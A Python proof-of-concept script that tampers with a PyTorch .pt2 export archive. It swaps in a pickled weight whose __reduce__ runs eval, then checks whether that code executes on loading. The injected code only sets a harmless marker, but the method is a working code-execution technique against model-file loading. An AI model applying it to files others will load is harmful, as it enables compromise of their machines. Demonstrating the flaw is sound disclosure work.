import io
import json
import sys
from zipfile import ZipFile

import torch
from torch import nn

x = torch.tensor([1.0, -2.0, 0.5])


class Scaled(nn.Module):
    def __init__(self):
        super().__init__()
        self.factor = nn.Parameter(torch.tensor(1.5))

    def forward(self, x):
        return self.factor * x


class Weight:
    def __reduce__(self):
        return eval, (
            "setattr(__import__('sys'), 'visited', 1)"
            " or __import__('torch').nn.Parameter("
            "__import__('torch').tensor(1.5))",
        )


program = torch.export.export(Scaled(), (x,))
torch.export.save(program, "model.pt2")

# The file is a zip archive, of which anybody can change a part.
with ZipFile("model.pt2") as file:
    parts = {name: file.read(name) for name in file.namelist()}
payload = io.BytesIO()
torch.save(Weight(), payload)
for name in parts:
    if name.endswith("weights_config.json"):
        settings = json.loads(parts[name])
        settings["config"]["factor"]["use_pickle"] = True
        parts[name] = json.dumps(settings).encode()
    elif name.endswith("/weight_0"):
        parts[name] = payload.getvalue()
with ZipFile("changed.pt2", "w") as file:
    for name, part in parts.items():
        file.writestr(name, part)

sys.visited = 0
loaded = torch.export.load("changed.pt2").module()
ran_on_load = sys.visited
with torch.no_grad():
    outputs = loaded(x)
ran_after_call = sys.visited
print("outputs:", outputs)
print("code ran on loading:", bool(ran_on_load))
print("after the call:", bool(ran_after_call))
